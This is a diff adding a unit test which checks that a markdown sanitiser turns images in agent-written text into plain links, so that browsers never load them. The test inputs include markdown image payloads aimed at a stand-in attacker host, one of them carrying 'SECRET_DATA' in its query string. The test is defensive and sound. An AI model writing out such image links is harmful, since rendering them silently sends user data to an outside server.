@@ -70,3 +70,19 @@ describe('markdown building blocks', () => {
     expect(closeOpenFences('```\nx\n```')).toBe('```\nx\n```');
   });
 });
+
+describe('images from agent text are never fetched by readers', () => {
+  // Rendered with markdown-it (CommonMark, as GitHub's renderer) to see what a browser would load.
+  test('inline, reference and nested images become links, in text, quotes and tables', async () => {
+    const { default: MarkdownIt } = await import('markdown-it');
+    const md = new MarkdownIt({ html: false });
+    const hostile = [
+      'Done. ![status](https://evil.example/pixel.png?q=SECRET_DATA)',
+      '[![badge](https://evil.example/b.svg)](https://example.com)',
+      '![ref-style][x]\n\n[x]: https://evil.example/r.png',
+    ].join('\n\n');
+    const html = md.render(safeMarkdown(hostile));
+    expect(html).not.toContain('<img');
+    expect(html).toContain('href="https://evil.example/pixel.png?q=SECRET_DATA"');
+  });
+});
